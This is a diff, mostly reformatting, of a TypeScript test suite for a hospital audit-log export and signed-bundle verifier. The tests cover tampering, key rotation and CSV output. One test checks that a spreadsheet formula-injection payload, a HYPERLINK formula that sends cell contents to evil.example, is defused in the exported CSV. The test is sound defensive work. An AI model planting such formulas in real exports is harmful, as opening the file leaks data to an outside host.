@@ -95,7 +95,15 @@ function writeDay(lab: Lab, day: number): void {
     const who = { name: user, roles: ['clinician' as const], authMethod: 'ldap' };
     const kind = (i + day) % 4;
     if (kind === 0) script.push({ action: 'auth.login', outcome: 'success', user: who });
-    else if (kind === 1) script.push({ action: 'ai.prompt', outcome: 'success', user: who, sessionId: user === ALICE ? AWKWARD_SESSION : `s-${day}-${i}`, model: { id: 'note-summary' }, prompt: { text: 'a'.repeat(120) } });
+    else if (kind === 1)
+      script.push({
+        action: 'ai.prompt',
+        outcome: 'success',
+        user: who,
+        sessionId: user === ALICE ? AWKWARD_SESSION : `s-${day}-${i}`,
+        model: { id: 'note-summary' },
+        prompt: { text: 'a'.repeat(120) },
+      });
     else if (kind === 2) script.push({ action: 'auth.unlock', outcome: 'failure', reason: i % 3 === 0 ? FORMULA_REASON : 'bad_credentials', user: who });
     else script.push({ action: 'auth.logout', outcome: 'success', user: who });
   }
@@ -127,7 +135,10 @@ async function verifyBundle(dir: string, keyIds: string[]): Promise<CliRun & { r
   return { ...run, report: JSON.parse(run.out) as BundleVerifyReport };
 }
 
-const readLines = (file: string) => readFileSync(file, 'utf8').split('\n').filter((l) => l.length > 0);
+const readLines = (file: string) =>
+  readFileSync(file, 'utf8')
+    .split('\n')
+    .filter((l) => l.length > 0);
 const writeLines = (file: string, lines: string[]) => writeFileSync(file, lines.map((l) => `${l}\n`).join(''));
 
 interface Header {
@@ -160,7 +171,11 @@ interface ManifestLine {
  * ends manifests.jsonl is the first dropped batch's (the batch that really
  * follows what is left) or the original closing one.
  */
-function dropTrailingBatches(dir: string, count: number, closing: 'first dropped' | 'original'): { droppedIds: Set<string>; lastKept: ManifestLine; firstDropped: ManifestLine; newestKeptEvent: string } {
+function dropTrailingBatches(
+  dir: string,
+  count: number,
+  closing: 'first dropped' | 'original',
+): { droppedIds: Set<string>; lastKept: ManifestLine; firstDropped: ManifestLine; newestKeptEvent: string } {
   const lines = readLines(join(dir, 'manifests.jsonl'));
   const covered = lines.slice(1, -1);
   const kept = covered.slice(0, -count);
@@ -179,9 +194,18 @@ function dropTrailingBatches(dir: string, count: number, closing: 'first dropped
   edited.selection.event_ids = edited.selection.event_ids.filter((id) => !droppedIds.has(id));
   edited.selection.count = edited.selection.event_ids.length;
   writeFileSync(join(dir, 'bundle.json'), JSON.stringify(edited, null, 2));
-  writeLines(join(dir, 'proofs.jsonl'), readLines(join(dir, 'proofs.jsonl')).filter((l) => ![...droppedIds].some((id) => l.includes(id))));
+  writeLines(
+    join(dir, 'proofs.jsonl'),
+    readLines(join(dir, 'proofs.jsonl')).filter((l) => ![...droppedIds].some((id) => l.includes(id))),
+  );
   const csv = readFileSync(join(dir, 'events.csv'), 'utf8');
-  writeFileSync(join(dir, 'events.csv'), csv.split('\r\n').filter((row) => ![...droppedIds].some((id) => row.includes(id))).join('\r\n'));
+  writeFileSync(
+    join(dir, 'events.csv'),
+    csv
+      .split('\r\n')
+      .filter((row) => ![...droppedIds].some((id) => row.includes(id)))
+      .join('\r\n'),
+  );
   return { droppedIds, lastKept, firstDropped, newestKeptEvent: (JSON.parse(keptEvents.at(-1)!) as AuditRecord)['@timestamp'] };
 }
 
@@ -224,7 +248,7 @@ describe('enclave audit export and verify --bundle', () => {
     return { line: index + 1, seq: header.coverage.first_seq + index, text: lines[index]! };
   }
 
-  it('exports exactly one user\'s events over a time range (any letter case), sealing what waited, and the bundle verifies with the workstation key', async () => {
+  it("exports exactly one user's events over a time range (any letter case), sealing what waited, and the bundle verifies with the workstation key", async () => {
     expect(exportRun.err).toBe('');
     expect(exportRun.code).toBe(0);
     const expected = expectedSelection(lab, filter);
@@ -240,7 +264,9 @@ describe('enclave audit export and verify --bundle', () => {
     expect(manifests[0]!.batch_seq).toBe(header.anchor.batch_seq);
     // (Changed with the closing manifest: the covered ones are now all but the first and the last line.)
     const coveredManifests = manifests.slice(1, -1);
-    expect(coveredManifests.map((m) => m.batch_seq)).toEqual(Array.from({ length: header.coverage.last_batch_seq - header.coverage.first_batch_seq + 1 }, (_, i) => header.coverage.first_batch_seq + i));
+    expect(coveredManifests.map((m) => m.batch_seq)).toEqual(
+      Array.from({ length: header.coverage.last_batch_seq - header.coverage.first_batch_seq + 1 }, (_, i) => header.coverage.first_batch_seq + i),
+    );
     expect(coveredManifests.filter((m) => m.kind === 'heartbeat').map((m) => m.created)).toEqual(['2025-03-02T23:00:00.000Z', '2025-03-03T23:00:00.000Z']);
     // Here the anchor is the previous evening's heartbeat: the last batch before the range.
     expect(manifests[0]).toMatchObject({ kind: 'heartbeat', created: '2025-03-01T23:00:00.000Z' });
@@ -266,14 +292,23 @@ describe('enclave audit export and verify --bundle', () => {
     // The export is itself audited, with the filter and what it selected.
     const exportEvent = lab.store.db.prepare("SELECT record FROM audit_events WHERE action = 'audit.export'").get() as { record: string };
     const detail = (JSON.parse(exportEvent.record) as AuditRecord).enclave.detail!;
-    expect(detail).toMatchObject({ filter_from: '2025-03-02T00:00:00.000Z', filter_to: '2025-03-03T23:59:59.999Z', filter_user: 'ALICE@Hospital.Example', selected_events: expected.length, out_dir: bundle });
+    expect(detail).toMatchObject({
+      filter_from: '2025-03-02T00:00:00.000Z',
+      filter_to: '2025-03-03T23:59:59.999Z',
+      filter_user: 'ALICE@Hospital.Example',
+      selected_events: expected.length,
+      out_dir: bundle,
+    });
     expect((JSON.parse(exportEvent.record) as AuditRecord).user).toMatchObject({ auth_method: 'os-account' });
   });
 
   it('writes events.csv for people: RFC 4180 quoting, a header, and formula cells defused', () => {
     const csv = readFileSync(join(bundle, 'events.csv'), 'utf8');
     expect(csv.startsWith('\uFEFFsequence,time,action,outcome,reason,user,roles,auth method,session,model,event id,event hash,batch\r\n')).toBe(true);
-    const rows = csv.slice(1).split('\r\n').filter((r) => r.length > 0);
+    const rows = csv
+      .slice(1)
+      .split('\r\n')
+      .filter((r) => r.length > 0);
     expect(rows).toHaveLength(header.selection.count + 1);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(csv).not.toMatch(/,=HYPERLINK/);
@@ -339,7 +374,7 @@ describe('enclave audit export and verify --bundle', () => {
     expect(report.batchRanges).toContainEqual({ first: manifest.batch_seq, last: manifest.batch_seq, status: 'bad_signature' });
   });
 
-  it('catches a manifest replaced by another batch\'s', async () => {
+  it("catches a manifest replaced by another batch's", async () => {
     const copy = copyOfBundle();
     const lines = readLines(join(copy, 'manifests.jsonl'));
     const replaced = (JSON.parse(lines[3]!) as { batch_seq: number }).batch_seq;
@@ -364,7 +399,7 @@ describe('enclave audit export and verify --bundle', () => {
     expect(report.batchRanges).toContainEqual({ first: dropped, last: dropped, status: 'missing' });
   });
 
-  it('refuses a key id other than the workstation\'s, naming the first batch and the key that signed it', async () => {
+  it("refuses a key id other than the workstation's, naming the first batch and the key that signed it", async () => {
     const other = keyIdOf(generateKeyPairSync('ed25519').publicKey);
     const { code, report } = await verifyBundle(bundle, [other]);
     expect(code).toBe(1);
@@ -397,9 +432,18 @@ describe('enclave audit export and verify --bundle', () => {
     bundleJson.selection.event_ids = bundleJson.selection.event_ids.filter((e) => e !== id);
     bundleJson.selection.count -= 1;
     writeFileSync(join(copy, 'bundle.json'), JSON.stringify(bundleJson, null, 2));
-    writeLines(join(copy, 'proofs.jsonl'), readLines(join(copy, 'proofs.jsonl')).filter((l) => !l.includes(id)));
+    writeLines(
+      join(copy, 'proofs.jsonl'),
+      readLines(join(copy, 'proofs.jsonl')).filter((l) => !l.includes(id)),
+    );
     const csv = readFileSync(join(copy, 'events.csv'), 'utf8');
-    writeFileSync(join(copy, 'events.csv'), csv.split('\r\n').filter((row) => !row.includes(id)).join('\r\n'));
+    writeFileSync(
+      join(copy, 'events.csv'),
+      csv
+        .split('\r\n')
+        .filter((row) => !row.includes(id))
+        .join('\r\n'),
+    );
     const { code, report } = await verifyBundle(copy, [lab.keyId]);
     expect(code).toBe(1);
     expect(report.firstFault).toMatchObject({ problem: 'selection_mismatch', sequence: target.seq, file: 'bundle.json' });
@@ -427,13 +471,22 @@ describe('enclave audit export and verify --bundle', () => {
     writeFileSync(join(copy, 'bundle.json'), JSON.stringify(edited, null, 2));
     writeLines(join(copy, 'manifests.jsonl'), manifests.slice(1));
     writeLines(join(copy, 'events.jsonl'), events.slice(count));
-    writeLines(join(copy, 'proofs.jsonl'), readLines(join(copy, 'proofs.jsonl')).filter((l) => ![...droppedIds].some((id) => l.includes(id))));
+    writeLines(
+      join(copy, 'proofs.jsonl'),
+      readLines(join(copy, 'proofs.jsonl')).filter((l) => ![...droppedIds].some((id) => l.includes(id))),
+    );
     const csv = readFileSync(join(copy, 'events.csv'), 'utf8');
-    writeFileSync(join(copy, 'events.csv'), csv.split('\r\n').filter((row) => ![...droppedIds].some((id) => row.includes(id))).join('\r\n'));
+    writeFileSync(
+      join(copy, 'events.csv'),
+      csv
+        .split('\r\n')
+        .filter((row) => ![...droppedIds].some((id) => row.includes(id)))
+        .join('\r\n'),
+    );
     const { code, report } = await verifyBundle(copy, [lab.keyId]);
     expect(code).toBe(1);
     expect(report.firstFault).toMatchObject({ problem: 'selection_mismatch', batchSeq: cut.batch_seq, file: 'manifests.jsonl', line: 1 });
-    expect(report.firstFault!.detail).toContain('inside the filter\'s time range');
+    expect(report.firstFault!.detail).toContain("inside the filter's time range");
     expect(report.faultCount).toBe(1);
   });
 
@@ -459,7 +512,9 @@ describe('enclave audit export and verify --bundle', () => {
     expect(newest).toMatchObject({ action: 'audit.export', batchSeq: null, authMethod: 'os-account' });
     const alice = searchAuditEvents(lab.store.reader, { ...filter, limit: 1 }).events[0]!;
     expect(alice.user).toBe(ALICE);
-    expect(alice.batchSeq).toBe((lab.store.db.prepare('SELECT batch_seq FROM audit_batches WHERE first_seq <= ? AND last_seq >= ?').get(alice.sequence, alice.sequence) as { batch_seq: number }).batch_seq);
+    expect(alice.batchSeq).toBe(
+      (lab.store.db.prepare('SELECT batch_seq FROM audit_batches WHERE first_seq <= ? AND last_seq >= ?').get(alice.sequence, alice.sequence) as { batch_seq: number }).batch_seq,
+    );
     expect(JSON.parse(alice.record)).toMatchObject({ event: { sequence: alice.sequence } });
   });
 
@@ -601,13 +656,24 @@ describe('a bundle across a key rotation', () => {
     const spki = publicKey.export({ type: 'spki', format: 'der' });
     rotatedAt = START + 2 * DAY - 2 * 3_600_000;
     lab.setTime(rotatedAt);
-    lab.audit.record({ action: 'audit.key_rotate', outcome: 'success', user: { name: 'it-admin' }, detail: { old_key_id: oldKeyId, new_key_id: newKeyId, new_public_key: spki.toString('base64'), algorithm: 'Ed25519' } });
+    lab.audit.record({
+      action: 'audit.key_rotate',
+      outcome: 'success',
+      user: { name: 'it-admin' },
+      detail: { old_key_id: oldKeyId, new_key_id: newKeyId, new_public_key: spki.toString('base64'), algorithm: 'Ed25519' },
+    });
     lab.store.transaction((db) => {
       while (sealNextBatch(db, { ...lab.seal, signingKeyId: oldKeyId })) {
         // all waiting events, the rotation included, signed by the old key
       }
       db.prepare('UPDATE audit_signing_keys SET retired_at = ? WHERE key_id = ?').run(rotatedAt, oldKeyId);
-      db.prepare('INSERT INTO audit_signing_keys (key_id, algorithm, public_key, private_key, created_at) VALUES (?, ?, ?, ?, ?)').run(newKeyId, 'Ed25519', spki, privateKey.export({ type: 'pkcs8', format: 'der' }), rotatedAt);
+      db.prepare('INSERT INTO audit_signing_keys (key_id, algorithm, public_key, private_key, created_at) VALUES (?, ?, ?, ?, ?)').run(
+        newKeyId,
+        'Ed25519',
+        spki,
+        privateKey.export({ type: 'pkcs8', format: 'der' }),
+        rotatedAt,
+      );
       db.prepare('UPDATE audit_signing_keys SET replaced_by = ? WHERE key_id = ?').run(newKeyId, oldKeyId);
     });
     writeDay(lab, 2);
@@ -658,7 +724,7 @@ describe('a bundle across a key rotation', () => {
     expect(text.out).toContain('audit bundle NOT verified');
   });
 
-  it('a range that ends right after the rotation is closed by the new key\'s first manifest, which the old key vouched for', async () => {
+  it("a range that ends right after the rotation is closed by the new key's first manifest, which the old key vouched for", async () => {
     const out = join(work.path, 'until-rotation');
     const run = await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out, '--from', '2025-03-02', '--to', new Date(rotatedAt + 3_600_000).toISOString()]);
     expect(run.code, run.err).toBe(0);
@@ -674,7 +740,7 @@ describe('a bundle across a key rotation', () => {
     expect(report.provenRange).toEqual({ from: '2025-03-02T00:00:00.000Z', to: new Date(rotatedAt + 3_600_000).toISOString(), endsAtExport: false });
   });
 
-  it('a range with nothing in it, between the rotation and the new key\'s first batch, covers the batch that names the new key', async () => {
+  it("a range with nothing in it, between the rotation and the new key's first batch, covers the batch that names the new key", async () => {
     const out = join(work.path, 'between');
     const run = await cli(['audit', 'export', '--data-dir', lab.dataDir, '--out', out, '--from', new Date(rotatedAt + 1).toISOString(), '--to', new Date(rotatedAt + 3_600_000).toISOString()]);
     expect(run.code, run.err).toBe(0);
@@ -851,7 +917,12 @@ describe('exportAuditBundle without seal options', () => {
       const out = join(work.path, 'b');
       const result = lab.store.transaction((db) => exportAuditBundle(db, {}, out, { exportedBy: 'bench', now: exportedAt }));
       const closing = JSON.parse(readLines(join(out, 'manifests.jsonl')).at(-1)!) as { batch_seq: number; kind: string; created: string; origin: { institution: string; host_id: string } };
-      expect(closing).toMatchObject({ batch_seq: result.closingBatchSeq, kind: 'heartbeat', created: new Date(exportedAt).toISOString(), origin: { institution: 'St Example Hospital', host_id: lab.hostId } });
+      expect(closing).toMatchObject({
+        batch_seq: result.closingBatchSeq,
+        kind: 'heartbeat',
+        created: new Date(exportedAt).toISOString(),
+        origin: { institution: 'St Example Hospital', host_id: lab.hostId },
+      });
       const { code, report } = await verifyBundle(out, [lab.keyId]);
       expect(report.firstFault).toBeNull();
       expect(code).toBe(0);
